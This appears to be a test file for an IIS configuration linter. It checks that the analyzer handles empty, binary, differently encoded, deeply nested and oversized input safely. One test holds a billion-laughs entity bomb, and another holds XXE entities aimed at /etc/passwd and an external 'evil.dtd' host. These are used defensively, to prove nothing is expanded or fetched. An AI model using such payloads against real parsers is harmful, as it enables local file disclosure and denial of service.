/**
 * Hostile and odd input: each case must give a clear diagnostic (or none,
 * where the input is legal), never an exception, a rule failure, a stack
 * overflow, a freeze or an entity expansion, and the analysis must do no I/O.
 */
import { describe, it, before, after } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as net from 'net';
import { analyzeDocument, getCodeActions } from '../../server/src/analysis/analyze';
import { getHover } from '../../server/src/analysis/hover';
import { MB, DEFAULT_MAX_FILE_SIZE } from '../../server/src/analysis/limits';
import { decodeBytes } from '../../server/src/node/readText';
import { runCli } from '../../server/src/cli/lint';
import { LineIndex } from '../../server/src/syntax/lineIndex';
import { walkElements } from '../../server/src/syntax/xml';
import type { AnalysisContext, Diagnostic, DocumentAnalysis } from '../../server/src/analysis/types';
import { REPO, offsetOf } from '../helpers';

const scenario = fs.readFileSync(path.join(REPO, 'test', 'cases', 'ignored-at-level', 'scenario-bad.config'), 'utf8');

/** Analyse, failing the test when a rule fails or a range leaves the document. */
function check(text: string, fileName = 'web.config', context: Partial<AnalysisContext> = {}): DocumentAnalysis {
  const failures: string[] = [];
  const analysis = analyzeDocument(text, { fileName, ...context, onRuleError: (rule, e) => failures.push(`${rule}: ${(e as Error)?.stack}`) });
  assert.deepEqual(failures, [], 'no rule may fail');
  for (const d of analysis.diagnostics) {
    assert.ok(d.start >= 0 && d.start <= d.end && d.end <= text.length, `${d.code} range outside the document`);
    assert.ok(d.message.length < 2000, `${d.code}: a ${d.message.length}-character message`);
  }
  return analysis;
}

function codes(a: DocumentAnalysis): string[] { return a.diagnostics.map((d) => d.code); }
function syntax(a: DocumentAnalysis): Diagnostic[] { return a.diagnostics.filter((d) => d.code === 'xml-syntax'); }

describe('hostile input: empty, not XML, binary', () => {
  it('an empty file: one error saying so', () => {
    for (const text of ['', '   \n\t\r\n']) {
      const a = check(text);
      assert.equal(syntax(a).length, 1);
      assert.match(syntax(a)[0].message, /The file is empty/);
    }
  });

  it('a file that is not XML: "does not look like an XML document"', () => {
    for (const text of ['{"configuration": {"appSettings": []}}\n', 'server.port = 8080\nlogging = on\n']) {
      const a = check(text);
      assert.ok(syntax(a).some((d) => /does not look like an XML document/.test(d.message)), JSON.stringify(a.diagnostics));
    }
  });

  it('binary data: a NUL-byte diagnostic, reported once per run of bad bytes', () => {
    const bytes = Buffer.alloc(4096);
    let x = 12345;
    for (let i = 0; i < bytes.length; i++) { x = (x * 1103515245 + 12345) >>> 0; bytes[i] = x >>> 24; }
    bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00], 0); // a PNG header
    const text = decodeBytes(bytes).text;
    const a = check(text);
    assert.ok(syntax(a).some((d) => /NUL byte in the file: this looks like binary data/.test(d.message)));
    assert.ok(syntax(a).length <= 202, 'syntax errors are capped (200, "too many", and the root element check)');
    // Binary inside an otherwise valid file.
    const b = check(`<configuration>\u0000\u0001\u0002<appSettings /></configuration>`);
    assert.deepEqual(syntax(b).map((d) => d.message), ['NUL byte in the file: this looks like binary data, not XML text.']);
  });
});

describe('hostile input: encodings and line endings', () => {
  let tmp: string;
  before(() => { tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'iis-hostile-')); });
  after(() => fs.rmSync(tmp, { recursive: true, force: true }));

  const variants: Array<[string, (s: string) => Buffer]> = [
    ['utf8', (s) => Buffer.from(s, 'utf8')],
    ['utf8-bom', (s) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(s, 'utf8')])],
    ['utf16le', (s) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')])],
    ['utf16be', (s) => { const le = Buffer.from(s, 'utf16le'); for (let i = 0; i + 1 < le.length; i += 2) { const t = le[i]; le[i] = le[i + 1]; le[i + 1] = t; } return Buffer.concat([Buffer.from([0xfe, 0xff]), le]); }],
  ];

  it('UTF-8 with and without BOM and UTF-16 LE/BE with BOM give the same diagnostics through the CLI (readText)', () => {
    const text = `<?xml version="1.0" encoding="utf-8"?>\n${scenario.replace('Sub-Application', 'Sub-Applicatión — 日本')}`;
    const results = variants.map(([name, encode]) => {
      const dir = path.join(tmp, name);
      fs.mkdirSync(dir);
      const file = path.join(dir, 'applicationHost.config');
      fs.writeFileSync(file, encode(text));
      let out = '', err = '';
      const code = runCli(['--format', 'json', file], { stdout: (s) => { out += s; }, stderr: (s) => { err += s; } });
      assert.equal(err, '', name);
      assert.ok(code === 0 || code === 1, `${name}: exit ${code}`);
      const [result] = JSON.parse(out) as Array<{ diagnostics: Array<{ code: string; range: unknown; message: string }> }>;
      return { name, diagnostics: result.diagnostics.map((d) => `${d.code} ${JSON.stringify(d.range)} ${d.message}`) };
    });
    assert.ok(results[0].diagnostics.some((d) => d.startsWith('ignored-at-level')), results[0].diagnostics.join('\n'));
    assert.ok(!results[0].diagnostics.some((d) => d.startsWith('xml-syntax')), results[0].diagnostics.join('\n'));
    for (const r of results.slice(1)) assert.deepEqual(r.diagnostics, results[0].diagnostics, r.name);
  });

  it('a BOM left in the text (as an editor may hand it over) is skipped: no error, offsets unchanged', () => {
    const plain = check(scenario, 'applicationHost.config');
    const bom = check('\ufeff' + scenario, 'applicationHost.config');
    assert.equal(syntax(bom).length, 0);
    assert.deepEqual(bom.diagnostics.map((d) => [d.code, d.start - 1, d.end - 1]), plain.diagnostics.map((d) => [d.code, d.start, d.end]));
  });

  it('CRLF line endings: the same diagnostics on the same text, and positions on the right lines', () => {
    const crlf = scenario.replace(/\r?\n/g, '\r\n');
    const lf = check(scenario, 'applicationHost.config');
    const a = check(crlf, 'applicationHost.config');
    const describe = (x: DocumentAnalysis) => x.diagnostics.map((d) => `${d.code} ${x.text.slice(d.start, d.end)} ${d.message}`);
    assert.deepEqual(describe(a), describe(lf));
    const index = new LineIndex(crlf);
    const d = a.diagnostics.find((x) => x.code === 'ignored-at-level')!;
    const line = crlf.split('\r\n').findIndex((l) => l.includes('<iisClientCertificateMappingAuthentication'));
    assert.deepEqual(index.positionAt(d.start), { line, character: crlf.split('\r\n')[line].indexOf('iisClientCertificateMappingAuthentication') });
  });
});

describe('hostile input: size', () => {
  it('100,000 levels of nesting: no stack overflow in the parser or any rule, and the tree is all there', () => {
    const n = 100_000;
    const inSection = `<configuration><system.webServer><security><authentication>${'<anonymousAuthentication>'.repeat(n)}${'</anonymousAuthentication>'.repeat(n)}</authentication></security></system.webServer></configuration>`;
    const unclosed = `<configuration><location path="Site/App">${'<system.webServer>'.repeat(n)}`;
    const stray = `<configuration>${'<a>'.repeat(n)}${'</b>'.repeat(n)}</configuration>`;
    for (const [text, fileName] of [[inSection, 'web.config'], [inSection, 'applicationHost.config'], [unclosed, 'applicationHost.config'], [stray, 'web.config']]) {
      const a = check(text, fileName);
      let depth = 0;
      walkElements(a.doc, (el) => { depth = Math.max(depth, el.depth); });
      assert.ok(depth >= n, `depth ${depth}`);
      // Hover and quick fixes deep inside work too.
      getHover(a, text.length >> 1);
      for (const d of a.diagnostics.slice(0, 5)) getCodeActions(a, d.start, d.end);
    }
    assert.ok(syntax(check(unclosed, 'applicationHost.config')).some((d) => /is not closed \(end of file reached\)/.test(d.message)));
    assert.ok(syntax(check(stray)).some((d) => /End tag <\/b> has no matching start tag/.test(d.message)));
  });

  it(`a file over the size limit (default ${DEFAULT_MAX_FILE_SIZE / MB} MB) gets one "validation limited" diagnostic and is not parsed`, () => {
    const filler = `<!-- ${'x'.repeat(1000)} -->\n`;
    const big = `<configuration>\n${filler.repeat(Math.ceil(50 * MB / filler.length))}<broken></configuration>`;
    assert.ok(big.length > 50 * MB);
    const a = check(big);
    assert.deepEqual(codes(a), ['file-too-large']);
    assert.match(a.diagnostics[0].message, /^Validation limited: this file is 50 MB, over the 32 MB limit, so it was not checked\.$/);
    assert.match(a.diagnostics[0].detail ?? '', /iisConfig\.maxFileSize \(CLI --max-file-size\)/);
    assert.equal(a.doc.root, undefined);
    // No tree, so no hover of its own: only the explanation of the one diagnostic.
    assert.match(getHover(a, 5)?.contents ?? '', /^`file-too-large` — Raise the limit/);
    assert.deepEqual(getCodeActions(a, 0, big.length).filter((x) => !/^Disable/.test(x.title)), []);
  });

  it('the limit is a setting: lower, raised, off, and the severity override applies', () => {
    const text = scenario;
    assert.deepEqual(codes(check(text, 'applicationHost.config', { maxFileSize: 100 })), ['file-too-large']);
    assert.match(check(text, 'applicationHost.config', { maxFileSize: 100 }).diagnostics[0].message, /^Validation limited: this file is \d+ KB, over the 100 characters limit/);
    assert.ok(codes(check(text, 'applicationHost.config', { maxFileSize: text.length })).includes('ignored-at-level'));
    assert.ok(codes(check(text, 'applicationHost.config', { maxFileSize: 0 })).includes('ignored-at-level'));
    assert.deepEqual(codes(check(text, 'applicationHost.config', { maxFileSize: 100, severity: { 'file-too-large': 'off' } })), []);
    assert.equal(check(text, 'applicationHost.config', { maxFileSize: 100, severity: { 'file-too-large': 'error' } }).diagnostics[0].severity, 'error');
  });

  it('the CLI has --max-file-size', () => {
    const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'iis-hostile-'));
    try {
      const file = path.join(tmp, 'applicationHost.config');
      fs.writeFileSync(file, scenario);
      let out = '';
      const io = { stdout: (s: string) => { out += s; }, stderr: (s: string) => { out += s; } };
      assert.equal(runCli(['--max-file-size', '0.001', file], io), 0);
      assert.match(out, /warning file-too-large Validation limited/);
      out = '';
      assert.equal(runCli(['--max-file-size=nope', file], io), 2);
      assert.match(out, /--max-file-size needs a number/);
    } finally {
      fs.rmSync(tmp, { recursive: true, force: true });
    }
  });

  it('a 1 MB attribute value: parsed whole, and no message repeats it', () => {
    const huge = 'A'.repeat(MB);
    const text = `<configuration><system.webServer><security><authentication>`
      + `<anonymousAuthentication enabled="${huge}" userName="${huge}" />`
      + `<iisClientCertificateMappingAuthentication enabled="true"><oneToOneMappings><add userName="u" password="p" certificate="${huge}" /></oneToOneMappings></iisClientCertificateMappingAuthentication>`
      + `</authentication></security></system.webServer></configuration>`;
    const a = check(text, 'applicationHost.config');
    let values = 0;
    walkElements(a.doc, (el) => { for (const at of el.attributes) if (at.value === huge) values++; });
    assert.equal(values, 3);
    assert.ok(a.diagnostics.some((d) => d.code === 'invalid-value'), codes(a).join(', '));
  });
});

describe('hostile input: DOCTYPE, entities, processing instructions, CDATA, comments', () => {
  it('internal entities are never expanded (billion laughs)', () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const text = `<?xml version="1.0"?>\n<!DOCTYPE configuration [\n${lol.join('\n')}\n]>\n<configuration>\n  <appSettings>\n    <add key="a" value="&lol9;" />\n  </appSettings>\n</configuration>\n`;
    const a = check(text);
    let value: string | undefined;
    walkElements(a.doc, (el) => { if (el.name === 'add') value = el.attributes.find((x) => x.name === 'value')?.value; });
    assert.equal(value, '&lol9;', 'left unexpanded');
    const messages = syntax(a).map((d) => d.message);
    assert.ok(messages.some((m) => /DOCTYPE is not processed: its entities are never expanded and external references are never read/.test(m)));
    assert.ok(messages.some((m) => /Entity '&lol9;' is declared in the DOCTYPE, which is not processed: it is left unexpanded/.test(m)));
  });

  it('external entities are never fetched or read, and the analysis does no I/O at all', () => {
    const text = `<!DOCTYPE configuration [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n<!ENTITY web SYSTEM "http://127.0.0.1:9/x.xml">\n<!ENTITY % p SYSTEM "https://example.invalid/evil.dtd"> %p;\n]>\n<configuration>\n  <appSettings>\n    <add key="a" value="&xxe;" />\n    <add key="b" value="&web;" />\n  </appSettings>\n</configuration>\n`;
    analyzeDocument(text, { fileName: 'web.config' }); // load lazily loaded data first
    const calls: string[] = [];
    const restore: Array<() => void> = [];
    const spy = (obj: Record<string, unknown>, names: string[], label: string) => {
      for (const n of names) {
        const orig = obj[n];
        if (typeof orig !== 'function') continue;
        obj[n] = function (this: unknown, ...args: unknown[]) { calls.push(`${label}.${n}(${String(args[0]).slice(0, 80)})`); return (orig as (...a: unknown[]) => unknown).apply(this, args); };
        restore.push(() => { obj[n] = orig; });
      }
    };
    // The modules themselves (an `import * as` binding only has getters).
    const realFs = require('fs') as Record<string, unknown>;
    spy(realFs, ['readFileSync', 'readFile', 'openSync', 'open', 'existsSync', 'statSync', 'stat', 'readdirSync', 'readdir', 'createReadStream', 'writeFileSync', 'writeFile', 'createWriteStream', 'accessSync'], 'fs');
    spy(realFs.promises as Record<string, unknown>, ['readFile', 'open', 'stat', 'readdir', 'writeFile'], 'fs.promises');
    spy(net.Socket.prototype as unknown as Record<string, unknown>, ['connect'], 'net.Socket');
    spy(require('http') as Record<string, unknown>, ['request', 'get'], 'http');
    spy(require('https') as Record<string, unknown>, ['request', 'get'], 'https');
    let a: DocumentAnalysis;
    try {
      a = check(text);
      getHover(a, offsetOf(text, 'appSettings') + 2);
      for (const d of a.diagnostics) getCodeActions(a, d.start, d.end);
    } finally {
      for (const r of restore) r();
    }
    assert.deepEqual(calls, []);
    assert.ok(!a.diagnostics.some((d) => /root:|daemon:/.test(d.message)));
    const values: string[] = [];
    walkElements(a.doc, (el) => { for (const at of el.attributes) if (at.name === 'value') values.push(at.value); });
    assert.deepEqual(values, ['&xxe;', '&web;']);
  });

  it('<?xml-stylesheet?> and other processing instructions are accepted; a misplaced <?xml?> declaration is reported', () => {
    const ok = check(`<?xml version="1.0" encoding="utf-8"?>\n<?xml-stylesheet type="text/xsl" href="style.xsl"?>\n<configuration>\n  <?app-tool keep="this"?>\n  <appSettings>\n    <?another one?>\n  </appSettings>\n</configuration>\n<?after root?>\n`);
    assert.deepEqual(syntax(ok), []);
    const late = check(`\n<?xml version="1.0"?>\n<configuration />`);
    assert.deepEqual(syntax(late).map((d) => d.message), ['The XML declaration <?xml ...?> must be the very first thing in the file (nothing, not even whitespace, may precede it).']);
  });

  it('CDATA: markup inside is text, never elements', () => {
    const a = check(`<configuration>\n  <appSettings>\n    <![CDATA[<add key="hidden" value="x" /></appSettings></configuration>]]>\n    <add key="visible" value="y" />\n  </appSettings>\n</configuration>\n`);
    assert.deepEqual(syntax(a), []);
    const keys: string[] = [];
    walkElements(a.doc, (el) => { if (el.name === 'add') keys.push(el.attributes[0].value); });
    assert.deepEqual(keys, ['visible']);
  });

  it('comments everywhere a comment may stand change no diagnostic', () => {
    const commented = scenario.replace(/>/g, '><!-- c -->').replace(/^/, '<!-- head -->\n') + '<!-- tail -->\n';
    const describe = (x: DocumentAnalysis) => x.diagnostics.map((d) => `${d.code} ${x.text.slice(d.start, d.end)}`);
    const plain = check(scenario, 'applicationHost.config');
    const a = check(commented, 'applicationHost.config');
    assert.deepEqual(syntax(a), []);
    assert.deepEqual(describe(a), describe(plain));
    // And a comment where none may stand (inside a tag) is a clear syntax error.
    assert.ok(syntax(check('<configuration <!-- no --> />')).length > 0);
  });
});
